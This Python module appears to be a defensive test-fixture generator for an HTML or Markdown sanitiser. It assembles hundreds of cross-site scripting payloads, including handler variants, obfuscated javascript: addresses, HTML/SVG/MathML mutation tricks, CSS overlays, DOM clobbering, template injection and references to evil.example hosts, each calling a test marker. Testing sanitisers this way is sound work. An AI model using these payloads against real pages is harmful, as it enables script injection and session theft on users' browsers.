"""Attacks on whoever reads a page: markup that would run, load, cover or shadow something if it came through.

Belongs here: the strings, made from tables of places and of what is put there, modelled on the classes that are known:
handlers in every quoting, addresses in every disguise, mutation between HTML, SVG and MathML, styles, clobbering of
names, what ends or never ends, what no eye sees. Does not belong here: what a page may hold (`test_attacks`).

What an attack runs is a call of `executed`, which a test defines, with a number of its own.
"""

from __future__ import annotations

from itertools import count, product

_TAGS = (
    "img src=x:x",
    "svg",
    "svg/",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "iframe",
    "object data=x",
    "embed src=x",
    "math",
    "marquee",
    "button autofocus",
    "a href=#x",
    "div tabindex=0 autofocus",
    "x-own tabindex=1",
    "table background=x",
    "style",
    "link rel=stylesheet href=x",
)
_HANDLERS = ("onerror", "onload", "OnFocus", "onmouseover", "ontoggle", "on\x00click", "onbegin", "onanimationstart")
_QUOTINGS = ("{0}='{1}'", '{0}="{1}"', "{0}={1}", "{0}\t=\n`{1}`", "/{0}=&#x27;{1}&#39;//", "x={0}='y'{0}=\"{1}\"")

_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " \t\njavascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "java\rscript:{0}",
    "java&#10;script:{0}",
    "java&Tab;script:{0}",
    "javascript&colon;{0}",
    "javascript&#58;{0}",
    "&#106;avascript:{0}",
    "&#x6A&#x61vascript:{0}",
    "&#0000106avascript:{0}",
    "\x01javascript:{0}",
    "\u00a0javascript:{0}",
    "\u200bjavascript:{0}",
    "\ufeffjavascript:{0}",
    "javascript://example.org/%0A{0}",
    "javascript:%{0}",
    "feed:javascript:{0}",
    "view-source:javascript:{0}",
    "jar:javascript:{0}",
    "vbscript:{0}",
    "livescript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{0}</x:script>",
    "blob:null/{0}",
    "filesystem:javascript:{0}",
    "//evil.example\\@javascript:{0}",
    "\\\\evil.example\\{0}",
    "https:javascript:{0}",
    '#"><script>{0}</script>',
    "?x='onclick='{0}",
)
_LINKS = (
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    "<a href={0}>x</a>",
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "<{0}>",
    "[x]\n\n[x]: {0}",
    '<img src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button formaction="{0}">x</button></form>',
    '<area href="{0}"><map name=m></map>',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<math><mi xlink:href="{0}" href="{0}">x</mi></math>',
    '<picture><source srcset="{0}" media="(prefers-color-scheme: dark)"><img src="{0}" srcset="{0} 1x"></picture>',
    '<video poster="{0}" src="{0}"><track src="{0}"></video>',
    '<blockquote cite="{0}"><q cite="{0}">x</q><del cite="{0}">x</del></blockquote>',
    "[[{0}][x]] [[{0}]]",
    "`x <{0}>`_\n\n.. image:: {0}\n   :target: {0}\n",
    "link:{0}[x] image::{0}[x] {0}[x]",
)

_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x onerror={0}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={0}></style></annotation-xml></math>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror={0}>--></style></foreignObject></svg>",
    "<svg><title><style></title><img src=x onerror={0}></style></svg>",
    '<svg><desc><noscript><p title="</noscript><img src=x onerror={0}>"></desc></svg>',
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><math><style></template><img src=x onerror={0}>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror={0}>">',
    "<table><td><svg><desc><td></desc><style></svg><img src=x onerror={0}>",
    '<xmp><p title="</xmp><img src=x onerror={0}>">',
    "<noembed><p title='</noembed><svg onload={0}>'></noembed>",
    '<textarea><p title="</textarea><img src=x onerror={0}>">',
    "<title><a title='</title><img src=x onerror={0}>'>",
    "<iframe><p title='</iframe><img src=x onerror={0}>'></iframe>",
    "<noframes><style></noframes><img src=x onerror={0}>",
    "<p><!--<img src=--!><img src=x onerror={0}>-->",
    "<!--><img src=x onerror={0}>-->",
    "<!---!><svg onload={0}>--->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={0}>]]>",
    "<?xml-stylesheet href='javascript:{0}'?><?img ><img src=x onerror={0}>?>",
    "<math><![CDATA[--><mi//href=javascript:{0}>]]></math>",
    "<!doctype html [<!ENTITY x '<img src=x onerror={0}>'>]>&x;",
    "<a><b><a><i></b></a><svg/onload={0}>",
    "<table><a href=x><tr><td></a><img src=x onerror={0}>",
    "<b><p></b><table><svg><desc><b></desc></table><style><img src=x onerror={0}>",
    "<font color=1><font><p><svg><font face=x></p><script>{0}</script>",
    "<ruby><rt><math><ms><style></ms></math><img src=x onerror={0}>",
    '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror={0} src=x>">',
    "<math><maction actiontype='statusline#x' xlink:href='javascript:{0}'>x</maction></math>",
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' onload='{0}'/&gt;#x\"></use></svg>",
    "<svg><animate attributeName=href values=javascript:{0} /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={0}></set></svg>",
    "<svg><script href='data:,{0}'/></svg>",
    "<svg><script>&#101;xecuted(0);{0}</script></svg>",
    "<svg><style>@import 'data:,*{{}}';</style><image href=x onerror={0}></svg>",
    "<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{0}</x:script></svg>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{0}</html:script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script/x>{0}</script y>",
    "<script\x0c>{0}</script\x0c>",
    "<<script>{0}//<</script>",
    "<script>{0}",
    "<scr\x00ipt>{0}</scr\x00ipt>",
    "<\x00script>{0}</script>",
    "\u017fcript <\u017fcript>{0}</\u017fcript>",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "`<script>`{0}</script>",
    "```html\n</code></pre><script>{0}</script>\n```",
    '```"onmouseover={0} x="\nx\n```',
    '```python class="x" onclick={0}\nx\n```',
    "$\\text{{<img src=x onerror={0}>}}$",
    "$\\href{{javascript:{0}}}{{x}} \\class{{site-header}}{{y}} \\style{{position:fixed}}{{z}}$",
    "$$\n</math><img src=x onerror={0}>\n$$",
    "```math\n\\unicode{{x3c}}script\\unicode{{x3e}}{0}\n```",
    "[^{0}]: <img src=x onerror={0}>\n\n[^{0}]",
    '> [!NOTE" onclick={0}]\n> x',
    "| <img src=x onerror={0}> |\n|-|\n| </table><svg onload={0}> |",
    "<details open ontoggle={0}><summary onclick={0}>x</summary></details>",
    '# <svg onload={0}> "onclick={0}\n\n[x](#svg-onload{0}-"onclick{0})',
    '![" onerror={0} x="](https://img.example/a.png "\' onerror={0}")',
    '[x](https://example.org/ "\\" onmouseover={0} ")',
    '<img src="https://img.example/x" alt="`><script>{0}</script>"`>',
    '<a href=https://example.org/?"onmouseover={0}>x</a>',
    "<a href='https://example.org/' style='x:expression({0})' target=_blank ping=https://evil.example/>x</a>",
    "<div class='\"onclick={0} site-header'>x</div>",
    "<p lang='\"onclick={0}' dir=\"' onclick={0} '>x</p>",
    ".. raw:: html\n\n   <script>{0}</script>\n",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>{0}</script>`\n",
    ".. |x| raw:: html\n\n   <img src=x onerror={0}>\n\n|x|\n",
    ".. meta::\n   :refresh: 0;url=javascript:{0}\n",
    ".. math::\n\n   \\href{{javascript:{0}}}{{x}}</math><script>{0}</script>\n",
    '.. code:: html"onclick={0}\n\n   x\n',
    "#+begin_export html\n<script>{0}</script>\n#+end_export\n",
    "#+HTML: <script>{0}</script>\n@@html:<script>{0}</script>@@\n",
    '#+begin_src html"onclick={0}\n</code></pre><script>{0}</script>\n#+end_src\n',
    '#+TITLE: <script>{0}</script>\n* <script>{0}</script>\n:PROPERTIES:\n:CUSTOM_ID: "onclick={0}\n:END:\n',
    "++++\n<script>{0}</script>\n++++\n",
    "pass:[<script>{0}</script>] +++<script>{0}</script>+++\n",
)

_STYLES = (
    "position:fixed;inset:0;background:red;z-index:99999",
    "position:absolute;top:-9999px;left:-9999px;width:9999px;height:9999px",
    "position:sticky;top:0",
    "margin-top:-5000px;margin-left:-5000px",
    "transform:translate(-500px,-900px) scale(50)",
    "background:url(https://evil.example/css)",
    "background:url('javascript:{0}')",
    "width:expression({0})",
    "behavior:url(x.htc);-moz-binding:url(x.xml#x)",
    "content:'x';float:left;font-size:900px",
    "display:contents;opacity:0;pointer-events:all;height:100vh",
    "\\70osition:fixed;/**/posi/**/tion:fixed",
    "animation:x 1s;animation-name:spin",
    "text-align:right;position:fixed",
    "text-align:center}} * {{ display:none",
)
_STYLED = (
    '<div style="{0}">cover</div>',
    "<td style='{0}'>cover</td>",
    '<table><tr><td style="{0}">cover</td></tr></table>',
    "<style>* {{ {0} }}</style>",
    "<svg><style>* {{ {0} }}</style></svg>",
    "<span class='skip site-header notice panel' style=\"{0}\">cover</span>",
    "<center style=\"{0}\"><font style='{0}'>cover</font></center>",
)

_NAMES = (
    "main-content",
    "readme",
    "body",
    "head",
    "cookie",
    "location",
    "getElementById",
    "querySelector",
    "addEventListener",
    "documentElement",
    "theme",
    "executed",
    "__proto__",
    "constructor",
    "user-content-main-content",
    'x" onclick="{0}',
)
_NAMING = (
    "<a id='{0}'>x</a>",
    "<a name='{0}'>x</a>",
    "<img name='{0}' src='https://img.example/x.png'>",
    "<form id='{0}' name='{0}'><input name='{0}'></form>",
    "<iframe name='{0}'></iframe>",
    "<h2 id='{0}'>x</h2>",
    "<object id='{0}'></object><embed name='{0}'>",
)

_ENDLESS = (
    "</div></section></main></body></html><script>{0}</script>",
    "</textarea></title></style></script><img src=x onerror={0}>",
    "<plaintext><script>{0}</script>",
    "<!-- <img src=x onerror={0}>",
    "<textarea><img src=x onerror={0}>",
    "<title><img src=x onerror={0}>",
    "<style>",
    "<script>",
    "<svg><desc>",
    "<math><mtext>",
    "<table><tr><td><ul><li><details open><summary><b><i><a href='x",
    "<div " + "x" * 500,
    '<a href="https://example.org/' + "a" * 3_000 + '">' + "w" * 3_000 + "</a>",
    "<div>" * 300 + "deep" + "<b>" * 300,
    "> " * 200 + "deep",
    "<table>" * 50 + "<tr><td>deep",
    "<frameset onload={0}><frame src=javascript:{0}></frameset>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<base target=_top onclick={0}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{0}</script>",
    "<link rel=import href='data:text/html,<script>{0}</script>'>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.{0}&gt;" sandbox=allow-scripts></iframe>',
    "<object type='text/html' data='data:text/html,<script>{0}</script>'></object>",
    "<embed type='image/svg+xml' src='data:image/svg+xml,<svg onload={0}/>'>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<portal src=https://evil.example/></portal><fencedframe src=https://evil.example/></fencedframe>",
    "<dialog open>cover</dialog><div popover=manual autofocus>cover</div><button popovertarget=x>x</button>",
    "<input type=image src=https://evil.example/i onerror={0}><input type=password name=p autocomplete=on>",
    "<slot name=x></slot><template shadowrootmode=open><script>{0}</script></template>",
    "<a href='https://example.org/' download ping='https://evil.example/' target=_top>x</a>",
    "<div contenteditable draggable=true accesskey=x onclick={0} tabindex=1>x</div>",
    "\u202egnp.exe\u202c \u2066\u2067\u2068 isolates without an end \u202d",
    "\u200b\u200c\u200d\u2060\ufeff\u00ad" * 200,
    "Z\u0351\u036b\u0343\u0368" + "\u0300\u0301\u0302" * 400,
    "\x00\x07\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029 control",
    "\ud7ff\ue000\ufffe\uffff\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "{{{{ 7 * 7 }}}} {{% for x in y %}} ${{7*7}} #{{7*7}} <%= 7*7 %> [[7*7]] {{{{constructor.constructor('{0}')()}}}}",
    "&" + "amp;" * 500 + "lt;script&gt;{0}",
    "'\"`--></style></script>]]><img src=x onerror={0}>{{}}",
)

DRAWINGS = (
    "<script>{0}</script>",
    "<script href='data:,{0}'/>",
    "<a href='javascript:{0}'><text>x</text></a>",
    "<rect onclick='{0}' onload='{0}' width='9' height='9'/>",
    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml' onclick='{0}'><script>{0}</script></p></foreignObject>",
    "<image href='https://evil.example/i.png' onerror='{0}'/>",
    "<image href='data:image/svg+xml,&lt;svg onload={0}/&gt;'/>",
    "<use href='https://evil.example/x.svg#y'/><use href='data:image/svg+xml,x#y'/>",
    "<animate attributeName='href' values='javascript:{0}' onbegin='{0}'/>",
    "<set attributeName='onmouseover' to='{0}'/>",
    "<style>@import url(https://evil.example/x.css); * {{ fill: url(https://evil.example/f) }}</style>",
    "<rect style='fill:url(https://evil.example/f)' fill='url(javascript:{0})' width='9' height='9'/>",
    "<rect style='fill:\\75rl(https://evil.example/f)' width='9' height='9'/>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{0}</x:script>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{0}'/>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{0}</handler>",
    "<feImage href='https://evil.example/f'/><filter id='f'><feImage href='x'/></filter>",
    "<discard onbegin='{0}'/><mpath href='javascript:{0}'/>",
)
"""What is put into a drawing; each is well-formed, because nothing else is read."""


def attacks() -> list[str]:
    """Every attack on a document once, in a fixed order; each calls `executed` with its own number if it runs."""
    numbers = count(1)

    def call() -> str:
        return f"executed({next(numbers)})"

    handlers = [
        f"<{tag} {quoting.format(handler, call())}>x</{tag.split()[0].strip('/')}>"
        for (number, tag), (place, handler) in product(enumerate(_TAGS), enumerate(_HANDLERS))
        # Each handler in each place, and each quoting with each of both, but not all with all.
        for quoting in (_QUOTINGS[(number + place) % len(_QUOTINGS)],)
    ]
    links = [link.format(address.format(call())) for link, address in product(_LINKS, _ADDRESSES) if len(address) < 200]
    styled = [place.format(style.format(call())) for place, style in product(_STYLED, _STYLES)]
    named = [place.format(name.format(call())) for place, name in product(_NAMING, _NAMES)]
    others = [template.format(call()) for template in (*_MUTATIONS, *_ENDLESS)]
    return [*handlers, *links, *styled, *named, *others]


def drawings() -> list[str]:
    """Drawings with an attack in each."""
    return [
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='20' height='20'>"
        f"{attack.format(f'executed({number})')}</svg>"
        for number, attack in enumerate(DRAWINGS, start=100_000)
    ]
